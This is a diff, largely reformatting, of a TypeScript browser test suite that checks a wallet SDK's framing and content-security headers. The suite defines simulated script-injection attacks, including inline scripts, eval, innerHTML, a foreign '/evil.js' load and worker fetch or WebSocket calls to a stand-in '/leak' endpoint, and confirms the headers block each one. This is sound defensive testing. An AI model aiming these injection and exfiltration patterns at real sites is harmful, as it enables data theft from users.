@@ -1,16 +1,19 @@
 import type { Browser, Frame, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
-import { openBrowser } from '../../../browser'
 import { createDocuments } from '../../../../frame/server/documents/createDocuments'
+import { openBrowser } from '../../../browser'
 import { temporaryFolder } from '../databases'
 import { serve } from '../serve'
 import { appOf, documentsOf, listen, siteOf } from './site'
 
-/** What a site's script would do that an attacker got to run, or to write into its page. Each resolves with whether it worked. */
+/**
+ * What a site's script would do that an attacker got to run, or to write into its page. Each
+ * resolves with whether it worked.
+ */
 const attacks = {
   'inline script': `const script = document.createElement('script'); script.textContent = 'window.ran = 1'; document.head.append(script); return window.ran === 1`,
-  'innerHTML': `document.body.innerHTML = '<b id="in">x</b>'; return !!document.querySelector('#in')`,
-  'eval': `return (0, eval)('1 + 1') === 2`,
+  innerHTML: `document.body.innerHTML = '<b id="in">x</b>'; return !!document.querySelector('#in')`,
+  eval: `return (0, eval)('1 + 1') === 2`,
   'script of another origin': `const script = document.createElement('script'); const done = new Promise((resolve) => { script.onload = () => resolve(true); script.onerror = () => resolve(false) }); script.src = FOREIGN + '/evil.js'; document.head.append(script); return done`,
   'own script without its digest': `const script = document.createElement('script'); const done = new Promise((resolve) => { script.onload = () => resolve(true); script.onerror = () => resolve(false) }); script.src = '/a/other.js?again'; document.head.append(script); return done`,
   'worker of a blob': `const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))); return new Promise((resolve) => { worker.onmessage = () => resolve(true); worker.onerror = () => resolve(false) })`,
@@ -33,7 +36,9 @@ const attacks = {
   'text in a timer': `setTimeout('window.late = 1'); await new Promise((resolve) => setTimeout(resolve, 50)); return window.late === 1`,
 } as const
 
-/** What the keys’ worker would do that got another script in: its policy comes with its own file. */
+/**
+ * What the keys’ worker would do that got another script in: its policy comes with its own file.
+ */
 const workerAttacks = {
   'a worker’s fetch elsewhere': `return (await fetch(FOREIGN + '/leak?worker', { mode: 'no-cors' })).type === 'opaque'`,
   'a worker’s socket elsewhere': `return new Promise((resolve) => { const socket = new WebSocket(FOREIGN.replace('http', 'ws') + '/leak'); socket.onopen = () => resolve(true); socket.onerror = () => resolve(undefined) })`,
@@ -54,29 +59,69 @@ let shop: Awaited<ReturnType<typeof listen>>
 let stranger: Awaited<ReturnType<typeof listen>>
 
 /** A page that frames the document of a site. */
-const hostOf = (frame: () => string) => () => new Response(`<!doctype html><iframe src="${frame()}" width="300" height="200"></iframe>`, { headers: { 'content-type': 'text/html' } })
+const hostOf = (frame: () => string) => () =>
+  new Response(`<!doctype html><iframe src="${frame()}" width="300" height="200"></iframe>`, {
+    headers: { 'content-type': 'text/html' },
+  })
 
 beforeAll(async () => {
   browser = await openBrowser()
   foreign = await listen((request) => {
     const { pathname, search } = new URL(request.url)
     leaked.push(pathname + search)
-    const type = pathname.endsWith('.svg') ? 'image/svg+xml' : pathname.endsWith('.js') ? 'text/javascript' : 'text/css'
-    return new Response(pathname.endsWith('.svg') ? '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>' : '', { headers: { 'content-type': type, 'cross-origin-resource-policy': 'cross-origin' } })
+    const type = pathname.endsWith('.svg')
+      ? 'image/svg+xml'
+      : pathname.endsWith('.js')
+        ? 'text/javascript'
+        : 'text/css'
+    return new Response(
+      pathname.endsWith('.svg')
+        ? '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'
+        : '',
+      { headers: { 'content-type': type, 'cross-origin-resource-policy': 'cross-origin' } },
+    )
   }, 'foreign')
-  const tableOf = (all: Readonly<Record<string, string>>) => Object.entries(all).map(([name, body]) => `${JSON.stringify(name)}: async (FOREIGN) => { ${body} }`).join(', ')
+  const tableOf = (all: Readonly<Record<string, string>>) =>
+    Object.entries(all)
+      .map(([name, body]) => `${JSON.stringify(name)}: async (FOREIGN) => { ${body} }`)
+      .join(', ')
   const work = `const attacks = { ${tableOf(workerAttacks)} }; onmessage = ({ data: [name, foreign] }) => attacks[name](foreign).then(postMessage, (error) => postMessage(String(error)))`
-  const inWorker = Object.keys(workerAttacks).map((name) => `${JSON.stringify(name)}: (FOREIGN) => new Promise((resolve) => { const worker = new Worker(address, { type: 'module' }); worker.onmessage = ({ data }) => resolve(data); worker.onerror = () => resolve('no worker'); worker.postMessage([${JSON.stringify(name)}, FOREIGN]) })`).join(', ')
-  const site = siteOf(`const address = trustedTypes.createPolicy('tessera', { createScriptURL: (path) => path }).createScriptURL('/a/work.js'); window.attacks = { ${tableOf(attacks)}, ${inWorker} }; window.ready = import('/a/lazy.js').then(({ loaded }) => loaded)`, { '/a/lazy.js': 'export const loaded = true', '/a/other.js': 'self.other = 1', '/a/work.js': work })
-  shop = await listen(hostOf(() => `${wallet.origin}/sdk?projectId=shop`), 'shop')
-  stranger = await listen(hostOf(() => `${wallet.origin}/sdk?projectId=shop`), 'stranger')
+  const inWorker = Object.keys(workerAttacks)
+    .map(
+      (name) =>
+        `${JSON.stringify(name)}: (FOREIGN) => new Promise((resolve) => { const worker = new Worker(address, { type: 'module' }); worker.onmessage = ({ data }) => resolve(data); worker.onerror = () => resolve('no worker'); worker.postMessage([${JSON.stringify(name)}, FOREIGN]) })`,
+    )
+    .join(', ')
+  const site = siteOf(
+    `const address = trustedTypes.createPolicy('tessera', { createScriptURL: (path) => path }).createScriptURL('/a/work.js'); window.attacks = { ${tableOf(attacks)}, ${inWorker} }; window.ready = import('/a/lazy.js').then(({ loaded }) => loaded)`,
+    {
+      '/a/lazy.js': 'export const loaded = true',
+      '/a/other.js': 'self.other = 1',
+      '/a/work.js': work,
+    },
+  )
+  shop = await listen(
+    hostOf(() => `${wallet.origin}/sdk?projectId=shop`),
+    'shop',
+  )
+  stranger = await listen(
+    hostOf(() => `${wallet.origin}/sdk?projectId=shop`),
+    'stranger',
+  )
   const apps = [appOf({ origins: [shop.origin] })]
-  const { url } = await serve({ database: { folder: temporaryFolder() }, config: { publicUrl: 'http://wallet.localhost:0', apps }, options: { modules: [(services) => createDocuments(services, site)] } })
+  const { url } = await serve({
+    database: { folder: temporaryFolder() },
+    config: { publicUrl: 'http://wallet.localhost:0', apps },
+    options: { modules: [(services) => createDocuments(services, site)] },
+  })
   wallet = { origin: url }
   // the control: the same documents without their headers
   weak = await listen(async (request) => {
     const answer = await documentsOf(site, apps, () => wallet.origin).fetch(request)
-    return new Response(await answer.arrayBuffer(), { status: answer.status, headers: { 'content-type': answer.headers.get('content-type') ?? '' } })
+    return new Response(await answer.arrayBuffer(), {
+      status: answer.status,
+      headers: { 'content-type': answer.headers.get('content-type') ?? '' },
+    })
   }, 'weak')
 })
 afterAll(async () => {
@@ -88,10 +133,11 @@ const inFrame = async (page: Page, host: string): Promise<Frame | undefined> => 
   await page.goto(host)
   return page.frames().find((frame) => frame.url().includes('/sdk'))
 }
-const isLoaded = (frame: Frame | Page) => frame.evaluate(() => (window as { ready?: Promise<boolean> }).ready).catch(() => undefined)
+const isLoaded = (frame: Frame | Page) =>
+  frame.evaluate(() => (window as { ready?: Promise<boolean> }).ready).catch(() => undefined)
 
 describe('framing', () => {
-  test("a page of the app shows it, and its script and what that imports run", async () => {
+  test('a page of the app shows it, and its script and what that imports run', async () => {
     const page = await browser.newPage()
     const frame = await inFrame(page, shop.origin)
     expect(frame && (await isLoaded(frame))).toBe(true)
@@ -102,7 +148,10 @@ describe('framing', () => {
     const page = await browser.newPage()
     const frame = await inFrame(page, stranger.origin)
     expect(frame && (await isLoaded(frame))).toBeFalsy()
-    const control = await listen(hostOf(() => `${weak.origin}/sdk?projectId=shop`), 'control')
+    const control = await listen(
+      hostOf(() => `${weak.origin}/sdk?projectId=shop`),
+      'control',
+    )
     const open = await inFrame(page, control.origin)
     expect(open && (await isLoaded(open))).toBe(true)
     control.close()
@@ -120,15 +169,24 @@ describe('a script that got in', () => {
     return page
   }
 
-  /** Runs an attack of the site's script from a timer: what a debugger runs itself is not under the page's policy. */
+  /**
+   * Runs an attack of the site's script from a timer: what a debugger runs itself is not under the
+   * page's policy.
+   */
   const attempt = async (origin: string, name: string) => {
     leaked.length = 0
     const page = await pageOf(origin)
     const outcome = await page.evaluate(
       ([attack, address]) =>
         new Promise<unknown>((resolve) => {
-          const { attacks } = window as unknown as { attacks: Record<string, (foreign: string) => Promise<unknown>> }
-          setTimeout(() => attacks[attack as string]?.(address as string).then(resolve, (error) => resolve(String(error))))
+          const { attacks } = window as unknown as {
+            attacks: Record<string, (foreign: string) => Promise<unknown>>
+          }
+          setTimeout(() =>
+            attacks[attack as string]?.(address as string).then(resolve, (error) =>
+              resolve(String(error)),
+            ),
+          )
         }),
       [name, foreign.origin],
     )
@@ -137,11 +195,14 @@ describe('a script that got in', () => {
     return { worked: outcome === true, leaked: [...leaked], outcome }
   }
 
-  test.each(Object.keys({ ...attacks, ...workerAttacks }))('%s is refused; control: without the headers it works', async (name) => {
-    const refused = await attempt(wallet.origin, name)
-    expect(refused).toMatchObject({ worked: false, leaked: [] })
-    expect(refused.outcome).not.toBe('no worker')
-    const control = await attempt(weak.origin, name)
-    expect(control.worked || control.leaked.length > 0, JSON.stringify(control)).toBe(true)
-  })
+  test.each(Object.keys({ ...attacks, ...workerAttacks }))(
+    '%s is refused; control: without the headers it works',
+    async (name) => {
+      const refused = await attempt(wallet.origin, name)
+      expect(refused).toMatchObject({ worked: false, leaked: [] })
+      expect(refused.outcome).not.toBe('no worker')
+      const control = await attempt(weak.origin, name)
+      expect(control.worked || control.leaked.length > 0, JSON.stringify(control)).toBe(true)
+    },
+  )
 })
